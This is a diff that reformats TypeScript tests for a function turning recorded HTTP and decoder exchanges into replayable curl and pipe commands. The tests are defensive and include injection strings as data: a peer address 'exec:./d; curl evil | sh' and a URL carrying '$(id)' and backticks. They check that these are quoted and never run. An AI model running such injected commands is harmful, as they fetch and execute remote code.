@@ -4,42 +4,123 @@ import type {HttpExchangeRecord, TargetFacts, TesteeExchangeRecord} from '../run
 import {anExchangeLine, anHttpRecord} from '../test/journal-lines.ts';
 import {repeatLine} from './repeat-line.ts';
 
-const target: TargetFacts = {peer: {address: 'exec:./my-decoder --line', name: 'd', version: '1', encodes: true}, livePeer: {address: 'udp://[::1]:4242'}};
-const request = (changes: Partial<HttpExchangeRecord['request']>) => anExchangeLine({exchange: anHttpRecord({request: {method: 'GET', url: 'http://h/', headers: [], body: {kind: 'none'}, ...changes}})});
+const target: TargetFacts = {
+  peer: {address: 'exec:./my-decoder --line', name: 'd', version: '1', encodes: true},
+  livePeer: {address: 'udp://[::1]:4242'},
+};
+const request = (changes: Partial<HttpExchangeRecord['request']>) =>
+  anExchangeLine({
+    exchange: anHttpRecord({request: {method: 'GET', url: 'http://h/', headers: [], body: {kind: 'none'}, ...changes}}),
+  });
 
 test.each([
   [request({}), 'curl -sS -i -g --path-as-is http://h/'],
   [request({method: 'HEAD'}), 'curl -sS -i -g --path-as-is --head http://h/'],
   [request({url: 'http://h/a?q=[1]&x={y}'}), "curl -sS -i -g --path-as-is 'http://h/a?q=[1]&x={y}'"],
-  [request({headers: [['Authorization', 'token [redacted:TOUCHSTONE_TOKEN_ALICE]'], ['X-Request-Id', '1'], ['Host', 'h']]}), `curl -sS -i -g --path-as-is -H 'Authorization: token '"$TOUCHSTONE_TOKEN_ALICE" http://h/`],
-  [request({headers: [['Authorization', 'Bearer [redacted:authorization]']]}), `curl -sS -i -g --path-as-is -H 'Authorization: Bearer '"$TOUCHSTONE_TOKEN_BOB" http://h/`],
-  [request({headers: [['Authorization', 'Basic [redacted:TOUCHSTONE_PASSWORD_ALICE]']]}), `curl -sS -i -g --path-as-is -u "$TOUCHSTONE_USER_BOB:$TOUCHSTONE_PASSWORD_ALICE" http://h/`],
-  [request({method: 'POST', headers: [['Content-Type', 'application/json']], body: {kind: 'text', text: `{"a":"it's"}`}}), `curl -sS -i -g --path-as-is -X POST -H 'Content-Type: application/json' --data-raw '{"a":"it'\\''s"}' http://h/`],
-  [request({method: 'PUT', headers: [['X-Empty', '']], body: {kind: 'stored', sha256: 'a'.repeat(64), bytes: 9, isText: false, head: ''}}), `curl -sS -i -g --path-as-is -X PUT -H 'X-Empty;' -H Content-Type: --data-binary @bodies/${'a'.repeat(64)} http://h/`],
-  [request({method: 'POST', body: {kind: 'text', text: 'a\0b'}}), `printf '\\141\\000\\142' | curl -sS -i -g --path-as-is -X POST -H Content-Type: --data-binary @- http://h/`],
+  [
+    request({
+      headers: [
+        ['Authorization', 'token [redacted:TOUCHSTONE_TOKEN_ALICE]'],
+        ['X-Request-Id', '1'],
+        ['Host', 'h'],
+      ],
+    }),
+    `curl -sS -i -g --path-as-is -H 'Authorization: token '"$TOUCHSTONE_TOKEN_ALICE" http://h/`,
+  ],
+  [
+    request({headers: [['Authorization', 'Bearer [redacted:authorization]']]}),
+    `curl -sS -i -g --path-as-is -H 'Authorization: Bearer '"$TOUCHSTONE_TOKEN_BOB" http://h/`,
+  ],
+  [
+    request({headers: [['Authorization', 'Basic [redacted:TOUCHSTONE_PASSWORD_ALICE]']]}),
+    `curl -sS -i -g --path-as-is -u "$TOUCHSTONE_USER_BOB:$TOUCHSTONE_PASSWORD_ALICE" http://h/`,
+  ],
+  [
+    request({
+      method: 'POST',
+      headers: [['Content-Type', 'application/json']],
+      body: {kind: 'text', text: `{"a":"it's"}`},
+    }),
+    `curl -sS -i -g --path-as-is -X POST -H 'Content-Type: application/json' --data-raw '{"a":"it'\\''s"}' http://h/`,
+  ],
+  [
+    request({
+      method: 'PUT',
+      headers: [['X-Empty', '']],
+      body: {kind: 'stored', sha256: 'a'.repeat(64), bytes: 9, isText: false, head: ''},
+    }),
+    `curl -sS -i -g --path-as-is -X PUT -H 'X-Empty;' -H Content-Type: --data-binary @bodies/${'a'.repeat(64)} http://h/`,
+  ],
+  [
+    request({method: 'POST', body: {kind: 'text', text: 'a\0b'}}),
+    `printf '\\141\\000\\142' | curl -sS -i -g --path-as-is -X POST -H Content-Type: --data-binary @- http://h/`,
+  ],
 ])('%#: an HTTP exchange is repeated by curl', (line, shell) => {
   expect(repeatLine(line, target)).toBe(shell);
 });
 
-const asked = (changes: Partial<TesteeExchangeRecord>) => anExchangeLine({exchange: {kind: 'testee', question: 'decode', message: 'OverlayPing', form: 'binary', given: '0801', answer: {kind: 'value'}, ...changes}});
+const asked = (changes: Partial<TesteeExchangeRecord>) =>
+  anExchangeLine({
+    exchange: {
+      kind: 'testee',
+      question: 'decode',
+      message: 'OverlayPing',
+      form: 'binary',
+      given: '0801',
+      answer: {kind: 'value'},
+      ...changes,
+    },
+  });
 
 test.each([
   [asked({}), "printf '%s\\n' 'touchstone 1' '1 decode OverlayPing 0801' | ./my-decoder --line"],
   [asked({given: ''}), "printf '%s\\n' 'touchstone 1' '1 decode OverlayPing -' | ./my-decoder --line"],
-  [asked({question: 'encode', given: {Time: '1'}}), `printf '%s\\n' 'touchstone 1' '1 encode OverlayPing {"Time":"1"}' | ./my-decoder --line`],
+  [
+    asked({question: 'encode', given: {Time: '1'}}),
+    `printf '%s\\n' 'touchstone 1' '1 encode OverlayPing {"Time":"1"}' | ./my-decoder --line`,
+  ],
   [asked({given: null}), undefined],
-  [anExchangeLine({exchange: {kind: 'live', sent: '0802'}}), 'printf %s 0802 | xxd -r -p | nc -u -w 2 ::1 4242 | xxd -p'],
+  [
+    anExchangeLine({exchange: {kind: 'live', sent: '0802'}}),
+    'printf %s 0802 | xxd -r -p | nc -u -w 2 ::1 4242 | xxd -p',
+  ],
 ])('%#: an overlay exchange is repeated by a pipe', (line, shell) => {
   expect(repeatLine(line, target)).toBe(shell);
 });
 
 test('a command with shell characters in a journal is never printed as a command', () => {
   const peer = {address: 'exec:./d; curl evil | sh', name: 'd', version: '1', encodes: true};
-  expect(repeatLine(asked({}), {peer})).toBe(`printf '%s\\n' 'touchstone 1' '1 decode OverlayPing 0801' | "$YOUR_DECODER"`);
+  expect(repeatLine(asked({}), {peer})).toBe(
+    `printf '%s\\n' 'touchstone 1' '1 decode OverlayPing 0801' | "$YOUR_DECODER"`,
+  );
 });
 
 test('the line reaches a program word by word as the exchange had it', () => {
-  const line = repeatLine(request({method: 'POST', url: "http://h/'$(id)`x`", body: {kind: 'text', text: '@file\n"\\'}, headers: [['A', '!!']]}), target) ?? '';
+  const line =
+    repeatLine(
+      request({
+        method: 'POST',
+        url: "http://h/'$(id)`x`",
+        body: {kind: 'text', text: '@file\n"\\'},
+        headers: [['A', '!!']],
+      }),
+      target,
+    ) ?? '';
   const printed = execFileSync('bash', ['-c', `curl() { printf '%s\\0' "$@"; }; ${line}`], {encoding: 'utf8'});
-  expect(printed.split('\0')).toEqual(['-sS', '-i', '-g', '--path-as-is', '-X', 'POST', '-H', 'A: !!', '-H', 'Content-Type:', '--data-raw', '@file\n"\\', "http://h/'$(id)`x`", '']);
+  expect(printed.split('\0')).toEqual([
+    '-sS',
+    '-i',
+    '-g',
+    '--path-as-is',
+    '-X',
+    'POST',
+    '-H',
+    'A: !!',
+    '-H',
+    'Content-Type:',
+    '--data-raw',
+    '@file\n"\\',
+    "http://h/'$(id)`x`",
+    '',
+  ]);
 });
